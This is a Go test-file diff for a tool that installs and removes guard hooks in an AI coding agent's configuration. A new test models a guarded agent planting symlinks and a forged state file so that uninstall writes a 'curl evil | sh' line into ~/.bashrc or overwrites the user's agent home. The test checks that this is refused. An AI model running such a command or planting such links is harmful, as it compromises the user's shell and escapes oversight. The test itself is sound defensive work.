@@ -2,7 +2,9 @@ package deploy
 
 import (
 	"bytes"
+	"encoding/base64"
 	"errors"
+	"fmt"
 	"io/fs"
 	"os"
 	"path/filepath"
@@ -226,14 +228,14 @@ func TestCodexPlanApplyUninstall(t *testing.T) {
 	sameSnap(t, "failing source", after, snapshot(t, home), true)
 
 	// Uninstall restores every file byte for byte.
-	u, err := PlanUninstall("codex", home)
+	u, err := PlanUninstall("codex", home, false)
 	must(t, err)
 	_, err = Apply(u)
 	must(t, err)
 	sameSnap(t, "uninstall", before, snapshot(t, home), false)
 
 	// A second uninstall has nothing to do.
-	u, err = PlanUninstall("codex", home)
+	u, err = PlanUninstall("codex", home, false)
 	must(t, err)
 	if u.Changed() {
 		t.Errorf("second uninstall: %v", u.Summary())
@@ -264,7 +266,7 @@ func TestCodexTOMLHooks(t *testing.T) {
 	// The user edits config.toml after apply: uninstall removes only the block.
 	edited := strings.Replace(string(got), "approval_policy=\"on-request\"", "approval_policy=\"never\"", 1)
 	write(t, filepath.Join(home, "config.toml"), edited, 0o600)
-	u, err := PlanUninstall("codex", home)
+	u, err := PlanUninstall("codex", home, false)
 	must(t, err)
 	_, err = Apply(u)
 	must(t, err)
@@ -294,7 +296,7 @@ func TestCodexConflicts(t *testing.T) {
 	must(t, err)
 	_, err = Apply(p)
 	must(t, err)
-	u, err := PlanUninstall("codex", home)
+	u, err := PlanUninstall("codex", home, false)
 	must(t, err)
 	_, err = Apply(u)
 	must(t, err)
@@ -313,7 +315,7 @@ func TestCodexFreshHome(t *testing.T) {
 			t.Errorf("%s missing", f)
 		}
 	}
-	u, err := PlanUninstall("codex", home)
+	u, err := PlanUninstall("codex", home, false)
 	must(t, err)
 	_, err = Apply(u)
 	must(t, err)
@@ -342,7 +344,7 @@ func TestStateNamesOnlyOurFiles(t *testing.T) {
 		`{"version":1,"target":"codex","files":{},"created_dirs":["/etc"]}`,
 	} {
 		write(t, filepath.Join(home, StateFile), st, 0o600)
-		if _, err := PlanUninstall("codex", home); err == nil || !strings.Contains(err.Error(), "never") {
+		if _, err := PlanUninstall("codex", home, false); err == nil || !strings.Contains(err.Error(), "never") {
 			t.Errorf("%s: %v", st, err)
 		}
 	}
@@ -368,12 +370,60 @@ func TestSymlinkedConfigStaysALink(t *testing.T) {
 	if !HasBlock(data) {
 		t.Errorf("the link's target lacks the block:\n%s", data)
 	}
-	u, err := PlanUninstall("codex", home)
+	u, err := PlanUninstall("codex", home, false)
 	must(t, err)
 	_, err = Apply(u)
 	must(t, err)
 	if data, _ := os.ReadFile(filepath.Join(dotfiles, "config.toml")); string(data) != cfg {
 		t.Errorf("after uninstall:\n%s", data)
+	}
+}
+
+// TestProjectSymlinksConfined: in a project, which the guarded agent
+// writes, a symlink it plants cannot aim apply or uninstall at a file
+// outside the project: not a config.toml linked to ~/.bashrc with an
+// install state whose "before" is a command (uninstall would restore it
+// there), not a .codex linked to the user's CODEX_HOME. Nothing is
+// written; the same links in a user's CODEX_HOME are followed
+// (TestSymlinkedConfigStaysALink).
+func TestProjectSymlinksConfined(t *testing.T) {
+	_, rules := fixture(t)
+	root := t.TempDir()
+	bashrc := filepath.Join(root, "home", ".bashrc")
+	must(t, os.MkdirAll(filepath.Dir(bashrc), 0o755))
+	write(t, bashrc, "export PATH\n", 0o644)
+
+	proj := filepath.Join(root, "proj")
+	dir := filepath.Join(proj, ".codex")
+	must(t, os.MkdirAll(filepath.Join(dir, "hookifyc"), 0o755))
+	must(t, os.Symlink(bashrc, filepath.Join(dir, "config.toml")))
+	state := fmt.Sprintf(`{"version":1,"target":"codex","files":{"config.toml":{"existed":true,"before":%q,"after_sha256":%q}}}`,
+		base64.StdEncoding.EncodeToString([]byte("curl evil | sh\n")), sum([]byte("export PATH\n")))
+	write(t, filepath.Join(dir, filepath.FromSlash(StateFile)), state, 0o600)
+	u, err := PlanUninstall("codex", dir, true)
+	must(t, err)
+	if _, err := Apply(u); err == nil || !strings.Contains(err.Error(), "outside the project") {
+		t.Errorf("uninstall through a planted link: err = %v", err)
+	}
+
+	// .codex itself a link to the user's CODEX_HOME.
+	home := filepath.Join(root, "home", ".codex")
+	must(t, os.MkdirAll(home, 0o755))
+	proj2 := filepath.Join(root, "proj2")
+	must(t, os.MkdirAll(proj2, 0o755))
+	must(t, os.Symlink(home, filepath.Join(proj2, ".codex")))
+	o := opts("", rules)
+	o.Dir, o.Project = filepath.Join(proj2, ".codex"), true
+	p, err := PlanCodex(o)
+	must(t, err)
+	if _, err := Apply(p); err == nil || !strings.Contains(err.Error(), "outside the project") {
+		t.Errorf("apply through a linked .codex: err = %v", err)
+	}
+	if data, _ := os.ReadFile(bashrc); string(data) != "export PATH\n" {
+		t.Errorf("~/.bashrc written: %q", data)
+	}
+	if ents, _ := os.ReadDir(home); len(ents) != 0 {
+		t.Errorf("CODEX_HOME written: %v", ents)
 	}
 }
 
@@ -404,7 +454,7 @@ func TestCodexHooksNoLongerNeeded(t *testing.T) {
 	if exists(filepath.Join(home, "hooks.json")) {
 		t.Error("hooks.json left")
 	}
-	u, err := PlanUninstall("codex", home)
+	u, err := PlanUninstall("codex", home, false)
 	must(t, err)
 	_, err = Apply(u)
 	must(t, err)
@@ -448,7 +498,7 @@ func TestCodexMCP(t *testing.T) {
 			t.Errorf("second plan changes %s", f.Rel)
 		}
 	}
-	u, err := PlanUninstall("codex", home)
+	u, err := PlanUninstall("codex", home, false)
 	must(t, err)
 	_, err = Apply(u)
 	must(t, err)
@@ -464,7 +514,7 @@ func TestCodexMCP(t *testing.T) {
 	if got, _ := os.ReadFile(filepath.Join(fresh, "config.toml")); !bytes.Contains(got, []byte("[mcp_servers.hookify]")) {
 		t.Fatalf("fresh config.toml:\n%s", got)
 	}
-	u, err = PlanUninstall("codex", fresh)
+	u, err = PlanUninstall("codex", fresh, false)
 	must(t, err)
 	_, err = Apply(u)
 	must(t, err)
@@ -559,7 +609,7 @@ func TestCodexMCPDropped(t *testing.T) {
 	if exists(filepath.Join(o.Dir, "config.toml")) {
 		t.Errorf("config.toml left behind")
 	}
-	u, err := PlanUninstall("codex", o.Dir)
+	u, err := PlanUninstall("codex", o.Dir, o.Project)
 	must(t, err)
 	_, err = Apply(u)
 	must(t, err)
